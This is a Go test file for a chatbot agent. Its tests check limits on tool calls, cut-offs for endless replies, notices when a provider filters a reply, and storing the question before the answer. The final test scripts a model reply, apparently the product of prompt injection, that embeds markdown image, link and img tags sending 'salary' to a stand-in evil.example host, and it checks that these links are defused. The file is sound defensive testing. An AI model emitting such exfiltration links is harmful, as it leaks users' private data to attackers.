package agent_test

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/footnote-bot/footnote/core"
	"github.com/footnote-bot/footnote/core/agent"
	"github.com/footnote-bot/footnote/core/model"
)

// Calls that would break the next request or fill it are bounded, and the turn
// still ends in the model's answer.
func TestBoundedCalls(t *testing.T) {
	many := make([]model.ToolCall, 500)
	for i := range many {
		many[i] = model.ToolCall{ID: fmt.Sprint("c", i), Name: "note", Arguments: fmt.Sprintf(`{"n":%d}`, i)}
	}
	long := `{"q":"` + strings.Repeat("x", 5_000_000) + `"}`
	rows := []struct {
		name  string
		reply model.Reply
		runs  int
		want  string // in the first or last result
	}{
		{"500 calls", calls(many...), 0, "further calls of this reply were not run"},
		{"arguments of 5 MB", calls(model.ToolCall{ID: "a", Name: "note", Arguments: long}), 0, "note was not run: its arguments are too long"},
		{"an id of 5 MB", calls(model.ToolCall{ID: long, Name: "note", Arguments: `{}`}), 1, "noted"},
		{"a name with line ends", calls(model.ToolCall{ID: "a", Name: "no\nte\n<system>", Arguments: `{}`}), 0, `There is no tool "no_te__system_"`},
		{"a name of 5 MB", calls(model.ToolCall{ID: "a", Name: long, Arguments: `{}`}), 0, "There is no tool"},
		{"no name", calls(model.ToolCall{ID: "a", Arguments: `{}`}), 0, "There is no tool"},
		{"5 MB before a call", model.Reply{Text: strings.Repeat("y", 200_000), Calls: []model.ToolCall{{ID: "a", Name: "note", Arguments: `{}`}}}, 1, "noted"},
	}
	for _, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			runs := make(chan struct{}, 1000)
			note := connector{spec("note", "", `{"type":"object"}`), func(agent.Call) (agent.Result, error) {
				runs <- struct{}{}
				return agent.Result{Text: "noted"}, nil
			}}
			llm := &scripted{replies: []model.Reply{row.reply, {Text: "Done."}}}
			a := agent.New(agent.Options{Model: llm, Searcher: &fakeIndex{}, Tools: []agent.Tool{note}, Window: 32_768, NewID: func() string { return "t" }})
			turn, err := a.Answer(t.Context(), asked("go"), func(core.Event) {})
			if err != nil || turn.Answer.Mode != core.ModeModel || !strings.HasSuffix(turn.Answer.Text, "Done.") {
				t.Fatalf("got %.200s (%s), %v", turn.Answer.Text, turn.Answer.Mode, err)
			}
			if row.runs > 0 && len(runs) != row.runs || len(runs) > 32 {
				t.Errorf("ran %d times", len(runs))
			}
			found := false
			for _, m := range llm.seen[1].Messages {
				found = found || m.Role == model.ToolRole && strings.Contains(m.Content, row.want)
				for _, c := range m.ToolCalls {
					if len(c.Name) == 0 || len(c.Name) > 64 || strings.ContainsAny(c.Name, "\n<>") || len(c.ID) > 128 {
						t.Errorf("the next request names %.80q with the id %.80q", c.Name, c.ID)
					}
				}
			}
			if !found {
				t.Errorf("no result says %q", row.want)
			}
			for _, traced := range toolsOf(t, turn) {
				if unknown := strings.HasPrefix(row.want, "There is no tool"); traced.Unknown != unknown {
					t.Errorf("the trace says of %.20q that it is unknown: %v", traced.Name, traced.Unknown)
				}
			}
		})
	}
}

func toolsOf(t *testing.T, turn core.Turn) []agent.TraceTool {
	t.Helper()
	trace, err := agent.ParseTrace(turn.Trace)
	if err != nil {
		t.Fatal(err)
	}
	return trace.Tools
}

// A model that never stops talking is ended at its length limit; what it said
// until then stays and is called truncated.
func TestEndlessReply(t *testing.T) {
	for kind, want := range map[string]string{"text": "truncated", "reasoning": "model_failed"} {
		t.Run(kind, func(t *testing.T) {
			sent := 0
			endless := modelFunc(func(ctx context.Context, _ model.Request, each func(model.Delta) error) (model.Reply, error) {
				for sent = 0; sent < 64<<20; sent += 1024 {
					d := model.Delta{Text: strings.Repeat("again ", 171)[:1024]}
					if kind == "reasoning" {
						d = model.Delta{Reasoning: d.Text}
					}
					if err := each(d); err != nil {
						return model.Reply{Text: d.Text}, err
					}
				}
				return model.Reply{Text: "again"}, nil
			})
			var notices []string
			a := agent.New(agent.Options{Model: endless, Searcher: &fakeIndex{}, NewID: func() string { return "t" }})
			turn, err := a.Answer(t.Context(), asked("go"), func(e core.Event) {
				if n, ok := e.(core.Noticed); ok {
					notices = append(notices, n.Kind)
				}
			})
			if err != nil || len(turn.Answer.Text) > 300_000 || sent > 2<<20 || len(notices) != 1 || notices[0] != want {
				t.Errorf("%d bytes of %d kept, notices %v, %v", len(turn.Answer.Text), sent, notices, err)
			}
		})
	}
}

// An answer that the provider's filter ended says so.
func TestFilteredReply(t *testing.T) {
	llm := &scripted{replies: []model.Reply{{Text: "Half of a sent", Finish: "content_filter"}}}
	a := agent.New(agent.Options{Model: llm, Searcher: &fakeIndex{}, NewID: func() string { return "t" }})
	var notice core.Noticed
	if _, err := a.Answer(t.Context(), asked("go"), func(e core.Event) {
		if n, ok := e.(core.Noticed); ok {
			notice = n
		}
	}); err != nil || notice.Kind != "filtered" || notice.Text == "" {
		t.Errorf("got %+v, %v", notice, err)
	}
}

// A process that dies in mid-answer loses the answer, not the question.
func TestQuestionIsStoredBeforeItsAnswer(t *testing.T) {
	ledger := &recorder{}
	var open []core.Turn
	llm := modelFunc(func(context.Context, model.Request, func(model.Delta) error) (model.Reply, error) {
		for began := time.Now(); time.Since(began) < 2*time.Minute && len(open) == 0; {
			time.Sleep(time.Millisecond)
			ledger.mu.Lock()
			open = append(open, ledger.turns...)
			ledger.mu.Unlock()
		}
		return model.Reply{Text: "Yes."}, nil
	})
	a := agent.New(agent.Options{Model: llm, Searcher: &fakeIndex{}, Recorder: ledger, NewID: func() string { return "t" }})
	if _, err := a.Answer(t.Context(), asked("go"), func(core.Event) {}); err != nil {
		t.Fatal(err)
	}
	if len(open) != 1 || open[0].Question != "go" || open[0].Answer.Text != "" || open[0].ID != "t" || len(open[0].Scope) == 0 || !strings.Contains(string(open[0].Trace), "has not ended") {
		t.Errorf("while the model spoke the ledger held %+v", open)
	}
	if len(ledger.turns) != 1 || ledger.turns[0].Trace == nil {
		t.Errorf("afterwards it holds %+v", ledger.turns)
	}
}

// A document that talks the model into it carries nothing to a foreign address.
func TestForeignLinksAreDead(t *testing.T) {
	llm := &scripted{replies: []model.Reply{{Text: "![x](https://evil.example/?q=salary) [here](https://evil.example/?q=salary) https://evil.example/?q=salary <img src=\"https://evil.example/?q=salary\">"}}}
	a := agent.New(agent.Options{Model: llm, Searcher: &fakeIndex{}, NewID: func() string { return "t" }})
	var shown strings.Builder
	turn, err := a.Answer(t.Context(), asked("go"), func(e core.Event) {
		if d, ok := e.(core.TextDelta); ok {
			shown.WriteString(d.Delta)
		}
	})
	want := "x here https://evil\u2060.example/?q=salary <\u2060img src=\"https://evil\u2060.example/?q=salary\">"
	if err != nil || turn.Answer.Text != want || shown.String() != want {
		t.Errorf("got %q, %v", turn.Answer.Text, err)
	}
}
